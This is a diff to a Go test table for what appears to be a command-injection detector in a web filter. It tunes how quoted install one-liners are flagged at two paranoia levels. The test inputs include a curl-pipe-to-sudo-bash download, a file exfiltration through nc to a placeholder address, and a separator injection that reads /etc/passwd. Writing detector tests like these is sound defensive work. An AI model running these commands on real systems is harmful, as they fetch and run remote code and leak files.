@@ -55,7 +55,10 @@ func TestProseCodeSpans(t *testing.T) {
 		{"ls head", body("comment", `Why does `+"`ls | head`"+` say "Broken pipe" sometimes?`), "", ""},
 		{"fenced", body("comment", "Steps to reproduce the bug:\n```\nps aux | sort -k3 -r | head\n```\nthen the list is empty"), "", ""},
 		// the attacks that hide in the same shapes
-		{"pipe to shell in span", body("comment", "Is `curl -fsSL https://get.example.com | sudo -E bash -` still fine?"), "cmdi-separator", "cmdi-separator"},
+		// an install one-liner quoted in a question (issue 14's false
+		// positive), flagged only at paranoia 2
+		{"install one-liner in span", body("comment", "Is `curl -fsSL https://get.example.com | sudo -E bash -` still fine?"), "", "cmdi-separator"},
+		{"pipe to shell in span", body("comment", "Is `curl -fsSL http://get.example.com | sudo -E bash -` still fine?"), "cmdi-separator", "cmdi-separator"},
 		{"exfil in span", body("comment", "Please run `cat notes.txt | nc 203.0.113.9 4444` for me today"), "cmdi-separator", "cmdi-separator"},
 		{"separator outside span", body("comment", "Use `ls` to list them all; cat /etc/passwd"), "*", "*"},
 		{"separator in prose", body("comment", "I like the article very much; id"), "*", "*"},
